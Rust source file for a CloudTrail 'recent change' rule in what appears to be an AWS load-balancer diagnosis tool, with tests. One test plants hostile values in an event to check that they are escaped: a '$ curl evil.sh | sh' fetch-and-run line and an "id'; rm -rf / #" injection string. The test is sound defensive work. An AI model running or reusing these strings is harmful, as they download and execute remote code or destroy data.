//! `recent-change`: a change to something on the failing path shortly before the alarm, from
//! CloudTrail. Unlike the other rules it runs after them: a change matters when it touched a
//! resource a cause names (the NACL whose rule drops replies, the security group missing its
//! rule, the load balancer whose idle timeout is exceeded, the target group whose targets
//! churned). Such a change gets this finding, and a line of evidence in the finding it
//! explains; a change that explains nothing is listed under "recent changes".

use super::{Check, CheckStatus, PostOutput};
use crate::argv;
use crate::changes::{
    actor, bounded, describe, is_registration, network_change, touched, when, NetworkChange,
};
use crate::context::Context;
use crate::finding::{Command, Evidence, Finding, FindingCode, Fix};
use crate::shell::{Script, Word};
use crate::snapshot::{ChangeEvent, Changes};

/// What the post-pass adds to a diagnosis.
#[derive(Debug, Default)]
pub struct Linked {
    /// The finding, and the index of the finding it explains (it goes right after that one).
    pub finding: Option<(Finding, usize)>,
    /// Changes that explain no finding, one line each, and what was not looked up.
    pub unlinked: Vec<String>,
    pub check: Option<Check>,
}

/// CloudTrail's and CloudWatch's clocks, and the alarm's evaluation, may differ by this much:
/// a change up to a minute after the state change is still read as before it.
const AFTER_ALARM_SLACK_SECONDS: i64 = 60;

/// At most this many events become evidence: the rest are counted.
const SHOWN: usize = 8;

/// The check's name in "what was checked" (the follow-up keeps only this check).
pub const CHECK_NAME: &str = "recent changes on the path (CloudTrail)";

/// Whether `event` touched what `finding` is about. A NACL or security-group change must touch
/// the entry or rule that decides the finding (same NACL or group, same direction, and an
/// overlapping protocol, port range and CIDR or peer): naming the same group is not enough.
/// `change` is the event read as a NACL or security-group change, once per event.
fn explains(
    ctx: &Context<'_>,
    peers: &SgPeers<'_, '_>,
    event: &ChangeEvent,
    change: Option<&NetworkChange>,
    finding: &Finding,
) -> bool {
    if !finding.code.is_cause() || finding.code == FindingCode::RecentChange {
        return false;
    }
    if let Some(change) = change {
        return finding
            .evidence
            .iter()
            .any(|evidence| touches_decider(peers, change, evidence));
    }
    let ids = touched(event);
    if finding.resources.iter().any(|r| ids.contains(r)) {
        return true;
    }
    let lb = &ctx.snapshot.load_balancer;
    let on_this_lb = ids.contains(&lb.name) || ids.contains(&lb.id);
    match finding.code {
        FindingCode::IdleTimeoutExceeded => {
            on_this_lb && event.event_name == "ModifyLoadBalancerAttributes"
        }
        FindingCode::TargetsChurning
        | FindingCode::StaleTargets
        | FindingCode::TargetsUnhealthy => {
            is_registration(event)
                && (on_this_lb
                    || ctx.snapshot.target_groups.iter().any(|g| {
                        g.arn.as_ref().is_some_and(|arn| ids.contains(arn)) || ids.contains(&g.name)
                    }))
        }
        _ => false,
    }
}

/// Whether a network change touched the NACL entry or security-group rule that a piece of
/// evidence names as deciding.
fn touches_decider(peers: &SgPeers<'_, '_>, change: &NetworkChange, evidence: &Evidence) -> bool {
    match (change, evidence) {
        (
            NetworkChange::NaclEntry {
                nacl_id,
                egress,
                protocol,
                ports,
                cidr,
                previous_unknown,
                ..
            },
            Evidence::NaclRule {
                nacl_id: decided,
                direction,
                ports: blocked,
                peer_cidrs,
                ..
            },
        ) => {
            nacl_id == decided
                && *egress == direction.is_egress()
                // A deleted or replaced entry's old content is not in the event: it may be
                // the one that let the path through.
                && (*previous_unknown
                    || protocol.as_deref().is_none_or(carries_tcp)
                        && ports.is_none_or(|(from, to)| from <= blocked.to && blocked.from <= to)
                        && cidr.as_deref().is_none_or(|c| {
                            peer_cidrs.iter().any(|p| cidrs_overlap(c, p))
                        }))
        }
        (
            NetworkChange::NaclAssociation { nacl_id },
            Evidence::NaclRule {
                nacl_id: decided, ..
            },
        ) => nacl_id == decided,
        (
            NetworkChange::SgRules {
                group_id,
                egress,
                permissions,
                ..
            },
            Evidence::SecurityGroup {
                group_ids,
                direction,
                port,
                peer_groups,
                ..
            },
        ) => {
            group_ids.contains(group_id)
                && *egress == direction.is_egress()
                && permissions.iter().any(|p| {
                    carries_tcp(&p.protocol)
                        && p.ports.is_none_or(|(from, to)| (from..=to).contains(port))
                        && (p.groups.iter().any(|g| peer_groups.contains(g))
                            || p.cidrs
                                .iter()
                                .any(|c| peers.of(*direction).iter().any(|a| cidrs_overlap(c, a))))
                })
        }
        _ => false,
    }
}

/// A NACL or security-group protocol that covers TCP, the only protocol on these paths.
fn carries_tcp(protocol: &str) -> bool {
    matches!(
        protocol.to_ascii_lowercase().as_str(),
        "6" | "tcp" | "-1" | "all"
    )
}

/// Whether two CIDRs (or addresses) share an address; unparsable ones share none.
fn cidrs_overlap(a: &str, b: &str) -> bool {
    let parse = |text: &str| {
        text.parse::<ipnet::IpNet>().ok().or_else(|| {
            text.parse::<std::net::IpAddr>()
                .ok()
                .map(ipnet::IpNet::from)
        })
    };
    match (parse(a), parse(b)) {
        (Some(a), Some(b)) => a.contains(&b.network()) || b.contains(&a.network()),
        _ => false,
    }
}

/// The addresses on the far side of the security-group checks: the load balancer's subnets
/// for the targets' ingress, the targets' addresses for the load balancer's egress. Read at
/// most once per diagnosis, and only when a security-group change names CIDRs: the targets
/// may number tens of thousands, the changes hundreds.
struct SgPeers<'c, 'w> {
    ctx: &'c Context<'w>,
    lb_subnets: std::cell::OnceCell<Vec<String>>,
    targets: std::cell::OnceCell<Vec<String>>,
}

impl<'c, 'w> SgPeers<'c, 'w> {
    fn new(ctx: &'c Context<'w>) -> Self {
        Self {
            ctx,
            lb_subnets: std::cell::OnceCell::new(),
            targets: std::cell::OnceCell::new(),
        }
    }

    fn of(&self, direction: crate::netcheck::Direction) -> &[String] {
        let world = self.ctx.snapshot;
        if direction.is_egress() {
            self.targets.get_or_init(|| {
                world
                    .target_groups
                    .iter()
                    .flat_map(|g| &g.targets)
                    .filter_map(|t| match &t.placement {
                        crate::snapshot::Placement::Interface(i) => Some(i.private_ip.clone()),
                        _ => t.id.parse::<std::net::IpAddr>().ok().map(|_| t.id.clone()),
                    })
                    .collect()
            })
        } else {
            self.lb_subnets.get_or_init(|| {
                world
                    .load_balancer
                    .subnets
                    .iter()
                    .filter_map(|id| world.subnet(id))
                    .flat_map(|s| s.cidr_ipv4.iter().chain(&s.cidr_ipv6).cloned())
                    .collect()
            })
        }
    }
}

/// Events that move targets: registrations, and an instance terminated under them.
fn moves_targets(event: &ChangeEvent) -> bool {
    is_registration(event) || event.event_name == "TerminateInstances"
}

/// The change a finding's title names: the latest change that is not a target move (the
/// likeliest cause); else the deregistration that started the churn; else the first move.
fn headline_change<'l, 'e>(
    linked: &'l [(&'e ChangeEvent, Vec<usize>)],
) -> Option<&'l (&'e ChangeEvent, Vec<usize>)> {
    let at = |(event, _): &&(&ChangeEvent, Vec<usize>)| when(event).1.unwrap_or(i64::MIN);
    linked
        .iter()
        .filter(|(e, _)| !moves_targets(e))
        .max_by_key(at)
        .or_else(|| {
            linked
                .iter()
                .filter(|(e, _)| e.event_name.starts_with("Deregister"))
                .min_by_key(at)
        })
        .or_else(|| linked.iter().min_by_key(at))
}

/// When a change came relative to the alarm, in whole minutes, rounded: 473 s before it is
/// "8 min before the alarm". `None` when either time is unknown.
fn relative(alarm_at: Option<i64>, at: Option<i64>) -> Option<String> {
    let (alarm, at) = (alarm_at?, at?);
    Some(if alarm >= at {
        format!("{} min before the alarm", (alarm - at + 30) / 60)
    } else {
        "after the alarm".into()
    })
}

fn line(event: &ChangeEvent, alarm_at: Option<i64>) -> String {
    let (clock, at) = when(event);
    let before = relative(alarm_at, at)
        .map(|r| format!(", {r}"))
        .unwrap_or_default();
    format!(
        "{clock} {} by {}: {}{before} (event {})",
        bounded(&event.event_name),
        actor(event),
        describe(event),
        bounded(&event.event_id)
    )
}

/// A call that failed, said as one: it was attempted and changed nothing.
fn attempt_line(event: &ChangeEvent, alarm_at: Option<i64>) -> String {
    let (clock, at) = when(event);
    let before = relative(alarm_at, at)
        .map(|r| format!(", {r}"))
        .unwrap_or_default();
    let code = event
        .error_code
        .as_deref()
        .map(str::trim)
        .filter(|c| !c.is_empty())
        .unwrap_or("an error without a code");
    format!(
        "{clock} {} by {} FAILED ({}), so it changed nothing; its request: {}{before} (event {})",
        bounded(&event.event_name),
        actor(event),
        bounded(code),
        describe(event),
        bounded(&event.event_id)
    )
}

/// The changes CloudTrail recorded, sorted: tied to the findings they explain, or not.
struct Ties<'e> {
    /// Each change that explains findings, with their indices.
    linked: Vec<(&'e ChangeEvent, Vec<usize>)>,
    /// Lines for the changes that explain none (at most `SHOWN`).
    unlinked: Vec<String>,
    /// Calls that changed something.
    made: usize,
    /// Calls that failed, so changed nothing.
    attempts: Vec<&'e ChangeEvent>,
}

/// The post-pass rule: changes from CloudTrail read against the findings, each tied to the
/// findings it explains; the change finding goes right after the one it explains (the cause
/// first, then what changed).
pub fn post(ctx: &Context<'_>, findings: &mut Vec<Finding>) -> PostOutput {
    let linked = link(ctx, findings);
    if let Some((change, after)) = linked.finding {
        findings.insert((after + 1).min(findings.len()), change);
    }
    PostOutput {
        checked: linked.check.into_iter().collect(),
        recent_changes: linked.unlinked,
    }
}

pub fn link(ctx: &Context<'_>, findings: &mut [Finding]) -> Linked {
    let Some(changes) = &ctx.snapshot.changes else {
        return Linked {
            check: Some(Check::new(
                CHECK_NAME,
                CheckStatus::NotApplicable,
                "CloudTrail was not read",
            )),
            ..Linked::default()
        };
    };
    let alarm_at = ctx.alarm.state_change_epoch;
    let ties = tie(ctx, changes, findings);
    for (event, explained) in &ties.linked {
        for &index in explained {
            findings[index].evidence.push(Evidence::observation(format!(
                "Changed by CloudTrail event: {}",
                line(event, alarm_at)
            )));
        }
    }
    let check = check_of(changes, &ties);
    let unlinked = unlinked_lines(&ties, alarm_at);
    let Some((latest, explained)) = headline_change(&ties.linked) else {
        return Linked {
            finding: None,
            unlinked,
            check: Some(check),
        };
    };
    let finding = finding(ctx, findings, &ties.linked, latest, explained[0]);
    Linked {
        finding: Some((finding, explained[0])),
        unlinked,
        check: Some(check),
    }
}

/// Ties each change to the findings it explains. A call that failed or only read changed
/// nothing: it is never tied to a finding nor counted as a change (a failed attempt is still
/// listed, saying so: someone tried). A change made after the alarm fired cannot have caused
/// it: listed, never tied.
fn tie<'e>(ctx: &Context<'_>, changes: &'e Changes, findings: &[Finding]) -> Ties<'e> {
    let alarm_at = ctx.alarm.state_change_epoch;
    let attempts: Vec<&ChangeEvent> = changes
        .events
        .iter()
        .filter(|e| e.failed_attempt())
        .collect();
    let peers = SgPeers::new(ctx);
    let mut ties = Ties {
        linked: Vec::new(),
        unlinked: Vec::new(),
        made: 0,
        attempts,
    };
    for event in changes.events.iter().filter(|e| e.changed_something()) {
        ties.made += 1;
        let change = network_change(event);
        let after_alarm = matches!(
            (alarm_at, when(event).1),
            (Some(alarm), Some(at)) if at > alarm + AFTER_ALARM_SLACK_SECONDS
        );
        let explained: Vec<usize> = if after_alarm {
            Vec::new()
        } else {
            findings
                .iter()
                .enumerate()
                .filter(|(_, f)| explains(ctx, &peers, event, change.as_ref(), f))
                .map(|(i, _)| i)
                .collect()
        };
        if explained.is_empty() {
            if ties.unlinked.len() < SHOWN {
                ties.unlinked.push(line(event, alarm_at));
            }
        } else {
            ties.linked.push((event, explained));
        }
    }
    ties
}

/// The changes that explain no finding, the failed attempts, and CloudTrail's delay.
fn unlinked_lines(ties: &Ties<'_>, alarm_at: Option<i64>) -> Vec<String> {
    let mut unlinked = ties.unlinked.clone();
    let quiet = ties.made - ties.linked.len();
    if quiet > unlinked.len() {
        unlinked.push(format!(
            "... and {} more that explain no finding",
            crate::context::count(quiet - unlinked.len(), "change", "changes")
        ));
    }
    let attempts = &ties.attempts;
    unlinked.extend(
        attempts
            .iter()
            .take(SHOWN)
            .map(|event| attempt_line(event, alarm_at)),
    );
    if attempts.len() > SHOWN {
        unlinked.push(format!(
            "... and {} more",
            crate::context::count(attempts.len() - SHOWN, "failed attempt", "failed attempts")
        ));
    }
    if !unlinked.is_empty() {
        unlinked.push("CloudTrail delivers an event about 5 minutes after the call: changes of the last minutes may not be listed yet.".into());
    }
    unlinked
}

fn check_of(changes: &Changes, ties: &Ties<'_>) -> Check {
    let pending = if changes.not_looked_up.is_empty() {
        String::new()
    } else {
        format!(
            "; not looked up in this pass (CloudTrail allows 2 lookups a second): {}",
            bounded(&changes.not_looked_up.join(", "))
        )
    };
    let failed = if ties.attempts.is_empty() {
        String::new()
    } else {
        format!(
            "; {} that changed nothing",
            crate::context::count(ties.attempts.len(), "failed attempt", "failed attempts")
        )
    };
    Check::new(
        CHECK_NAME,
        if ties.linked.is_empty() {
            CheckStatus::Ok
        } else {
            CheckStatus::Problem
        },
        format!(
            "{} since {}, {} tied to a finding{failed}{pending}",
            crate::context::count(ties.made, "change", "changes"),
            bounded(&changes.since),
            ties.linked.len(),
        ),
    )
}

/// The recent-change finding: `latest` in its title, every tied change as evidence, and what
/// to do about it, which is the fix of the finding it explains (`top`, an index), never the
/// reverse of a change that took access away.
fn finding(
    ctx: &Context<'_>,
    findings: &[Finding],
    linked: &[(&ChangeEvent, Vec<usize>)],
    latest: &ChangeEvent,
    top: usize,
) -> Finding {
    let alarm_at = ctx.alarm.state_change_epoch;
    let top = &findings[top];
    let more = if linked.len() > 1 {
        format!(
            " (+{} more)",
            crate::context::count(linked.len() - 1, "change", "changes")
        )
    } else {
        String::new()
    };
    let (clock, at) = when(latest);
    let before = relative(alarm_at, at).unwrap_or_else(|| "around the alarm".into());
    // A change that took access away is never offered for undoing (see `tightens`).
    let tightened = network_change(latest).is_some_and(|c| c.tightens());
    let (explanation, summary) = what_to_do(latest, tightened, top);
    Finding {
        code: FindingCode::RecentChange,
        severity: top.severity,
        confidence: None,
        confidence_reason: None,
        title: format!(
            "{} by {} at {clock}, {before}{more}",
            describe(latest),
            actor(latest)
        ),
        explanation,
        evidence: evidence(findings, linked, alarm_at),
        fix: Fix {
            summary: summary.into(),
            commands: vec![Command::new(
                "See the whole CloudTrail event",
                Script::lines(lookups(ctx, linked)),
            )],
            durable: None,
            notes: Vec::new(),
        },
        resources: linked.iter().map(|(e, _)| bounded(&e.event_id)).collect(),
        remedies: Vec::new(),
    }
}

/// The explanation and the fix's summary: a move of targets dates the churn; a change that
/// tightened access is not undone; any other change is undone by the explained finding's fix.
fn what_to_do(latest: &ChangeEvent, tightened: bool, top: &Finding) -> (String, &'static str) {
    let (top_code, top_title) = (top.code, bounded(&top.title));
    if moves_targets(latest) {
        (
            format!("Targets were registered or deregistered shortly before the alarm: this is who moved them, and when (a controller during a rollout, a node leaving). It dates the churn that the finding \"{top_title}\" ({top_code}) describes; the fix is that finding's, not undoing this."),
            "Nothing to undo here: follow the fix of the finding it dates; the event shows who moved the targets.",
        )
    } else if tightened {
        (
            format!("This change denied or removed access on the entry that decides the finding \"{top_title}\" ({top_code}), shortly before the alarm. The fix is that finding's, which opens only what the path needs; undoing the change would reopen everything it closed, so it is not offered. Ask whoever made it why; if it came from infrastructure as code or an automatic remediation, change it there too, or the next run brings it back."),
            "Check the change with whoever made it, then apply the fix of the finding it explains (not the reverse of this change).",
        )
    } else {
        (
            format!("This change touched what the finding \"{top_title}\" ({top_code}) is about, shortly before the alarm. Ask whoever made it why; undoing it is the fix that finding gives. If it came from infrastructure as code, fix it there too, or the next apply brings it back."),
            "Check the change with whoever made it, then undo it with the commands of the finding it explains.",
        )
    }
}

/// Each tied change with the findings it explains, at most `SHOWN`, the rest counted.
fn evidence(
    findings: &[Finding],
    linked: &[(&ChangeEvent, Vec<usize>)],
    alarm_at: Option<i64>,
) -> Vec<Evidence> {
    let mut evidence: Vec<Evidence> = linked
        .iter()
        .take(SHOWN)
        .map(|(event, explained)| {
            let codes: Vec<&str> = explained
                .iter()
                .map(|&i| findings[i].code.as_str())
                .collect();
            Evidence::observation(format!(
                "{}; explains {}",
                line(event, alarm_at),
                codes.join(", ")
            ))
        })
        .collect();
    if linked.len() > SHOWN {
        evidence.push(Evidence::observation(format!(
            "... and {} more",
            linked.len() - SHOWN
        )));
    }
    evidence
}

/// The CloudTrail lookups of the first tied events.
fn lookups(ctx: &Context<'_>, linked: &[(&ChangeEvent, Vec<usize>)]) -> Vec<Vec<Word>> {
    let region = ctx.region();
    linked
        .iter()
        .take(3)
        .map(|(event, _)| {
            argv![
                "aws",
                "cloudtrail",
                "lookup-events",
                "--region",
                region,
                "--lookup-attributes",
                format!("AttributeKey=EventId,AttributeValue={}", event.event_id)
            ]
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use crate::report::{Format, Report};
    use crate::testkit::scenario_snapshot;

    /// An event is whatever the caller sent and CloudTrail recorded: a hostile one stays data.
    #[test]
    fn a_hostile_event_never_becomes_a_command_or_a_second_line() {
        let name = "nacl-rule-added-recently";
        let mut world = scenario_snapshot(name);
        let changes = world.changes.as_mut().unwrap();
        let event = &mut changes.events[1];
        event.actor = Some("arn:aws:sts::1:assumed-role/x\n$ curl evil.sh | sh\n```".into());
        event.event_id = "id'; rm -rf / #".into();
        let (alarm, load_balancer) = crate::scenarios::find(name).unwrap().alarm().unwrap();
        let report = Report::diagnosed(&alarm, &load_balancer, &world);
        let change = report
            .findings
            .iter()
            .find(|f| f.code == crate::finding::FindingCode::RecentChange)
            .unwrap();
        assert!(!change.title.contains('\n'));
        let lookup = change.fix.commands[0].command.as_str();
        assert!(
            lookup.contains("'AttributeKey=EventId,AttributeValue=id'\\''; rm -rf / #'"),
            "{lookup}"
        );
        for format in [Format::Text, Format::Markdown] {
            let text = report.render(format);
            assert!(
                !text.lines().any(|l| l.trim_start().starts_with("$ curl")),
                "{text}"
            );
        }
    }

    /// Trust round two, defect 2: a denied `CreateNetworkAclEntry` changed nothing, so it is
    /// never tied to the NACL finding nor counted as a change; it is listed as a failed
    /// attempt. A read-only call is not listed at all.
    #[test]
    fn a_failed_or_read_only_call_is_never_the_change_that_caused_it() {
        let name = "nacl-rule-added-recently";
        let (alarm, load_balancer) = crate::scenarios::find(name).unwrap().alarm().unwrap();
        let world = scenario_snapshot(name);
        let real = Report::diagnosed(&alarm, &load_balancer, &world);
        let tied = |report: &Report| {
            report
                .findings
                .iter()
                .flat_map(|f| &f.evidence)
                .filter(|e| e.summary().contains("Changed by CloudTrail event"))
                .count()
        };
        assert!(tied(&real) > 0, "the scenario ties a change");
        for (error, read_only) in [(Some("Client.UnauthorizedOperation"), false), (None, true)] {
            let mut world = world.clone();
            for event in &mut world.changes.as_mut().unwrap().events {
                event.error_code = error.map(str::to_string);
                event.read_only = read_only;
            }
            let report = Report::diagnosed(&alarm, &load_balancer, &world);
            assert!(
                !report
                    .findings
                    .iter()
                    .any(|f| f.code == crate::finding::FindingCode::RecentChange),
                "{error:?} {read_only}"
            );
            assert_eq!(tied(&report), 0, "{error:?} {read_only}");
            let listed = report.recent_changes.join("\n");
            let check = report
                .checked
                .iter()
                .find(|c| c.name == super::CHECK_NAME)
                .unwrap();
            assert!(
                check.detail.starts_with("0 changes since"),
                "{}",
                check.detail
            );
            if read_only {
                assert!(report.recent_changes.is_empty(), "{listed}");
            } else {
                assert!(
                    listed.contains("FAILED (Client.UnauthorizedOperation), so it changed nothing"),
                    "{listed}"
                );
                assert!(check.detail.contains("failed attempt"), "{}", check.detail);
            }
        }
    }

    /// Trust round two, defect 8: an SSH revoke on the group a finding names as its peer is
    /// another direction, port and peer: it explains nothing, and is never offered for undoing.
    /// The revoke of the very rule that admitted the load balancer is tied, and not offered for
    /// undoing either (it tightened access).
    #[test]
    fn a_change_is_tied_only_when_it_touches_the_deciding_rule() {
        use crate::finding::FindingCode;
        let name = "sg-egress-unrelated-revoke";
        let (alarm, load_balancer) = crate::scenarios::find(name).unwrap().alarm().unwrap();
        let world = scenario_snapshot(name);
        let report = Report::diagnosed(&alarm, &load_balancer, &world);
        assert!(report
            .findings
            .iter()
            .any(|f| f.code == FindingCode::SgBlocksTargetPort));
        assert!(
            !report
                .findings
                .iter()
                .any(|f| f.code == FindingCode::RecentChange),
            "{:#?}",
            report.findings
        );
        assert!(report.recent_changes.iter().any(|c| c.contains("tcp 22")));

        // The node SG's ingress rule for the LB, revoked: that one decides.
        let name = "sg-node-missing-lb-rule";
        let (alarm, load_balancer) = crate::scenarios::find(name).unwrap().alarm().unwrap();
        let mut world = scenario_snapshot(name);
        let group = "sg-0c5e7a9b1d3f24680";
        let revoke = |port: u16, peer: serde_json::Value| crate::snapshot::ChangeEvent {
            event_id: format!("ev-{port}"),
            event_name: "RevokeSecurityGroupIngress".into(),
            event_time: "2026-11-23T17:56:12Z".into(),
            actor: Some("arn:aws:sts::111122223333:assumed-role/ops/jane".into()),
            resources: vec![group.into()],
            request: serde_json::json!({"groupId": group, "ipPermissions": {"items": [
                {"ipProtocol": "tcp", "fromPort": port, "toPort": port, "groups": peer, "ipRanges": {}}]}}),
            error_code: None,
            read_only: false,
        };
        world.changes = Some(crate::snapshot::Changes {
            since: "2026-11-23T15:55:00Z".into(),
            until: "2026-11-23T18:00:00Z".into(),
            events: vec![
                revoke(
                    22,
                    serde_json::json!({"items": [{"groupId": "sg-0a1f2e3d4c5b60792"}]}),
                ),
                revoke(
                    8080,
                    serde_json::json!({"items": [{"groupId": "sg-0a1f2e3d4c5b60792"}]}),
                ),
            ],
            not_looked_up: Vec::new(),
        });
        let report = Report::diagnosed(&alarm, &load_balancer, &world);
        let change = report
            .findings
            .iter()
            .find(|f| f.code == FindingCode::RecentChange)
            .expect("the revoke of the LB's rule is tied");
        assert_eq!(change.resources, ["ev-8080"]);
        assert!(
            !change.explanation.contains("undoing it is the fix"),
            "{}",
            change.explanation
        );
        assert!(
            change.explanation.contains("not offered"),
            "{}",
            change.explanation
        );
    }

    /// Trust round two, defect 10: a node drain's change is named by the deregistration that
    /// started it, not by the later registration of its replacement.
    #[test]
    fn a_drain_is_named_by_the_deregistration_that_started_it() {
        let name = "alb-node-drain";
        let (alarm, load_balancer) = crate::scenarios::find(name).unwrap().alarm().unwrap();
        let report = Report::diagnosed(&alarm, &load_balancer, &scenario_snapshot(name));
        let change = report
            .findings
            .iter()
            .find(|f| f.code == crate::finding::FindingCode::RecentChange)
            .unwrap();
        assert!(
            change.title.starts_with("1 target deregistered by"),
            "{}",
            change.title
        );
        assert!(change.title.contains("at 17:55"), "{}", change.title);
    }

    /// The outside review: a change made after the alarm fired was still its cause.
    #[test]
    fn a_change_after_the_alarm_is_listed_not_tied() {
        let name = "nacl-rule-added-recently";
        let (alarm, load_balancer) = crate::scenarios::find(name).unwrap().alarm().unwrap();
        let mut world = scenario_snapshot(name);
        for event in &mut world.changes.as_mut().unwrap().events {
            event.event_time = "2026-11-23T18:07:00Z".into();
        }
        let report = Report::diagnosed(&alarm, &load_balancer, &world);
        assert!(!report
            .findings
            .iter()
            .any(|f| f.code == crate::finding::FindingCode::RecentChange));
        assert!(report
            .recent_changes
            .iter()
            .any(|c| c.contains("after the alarm")));
    }
}
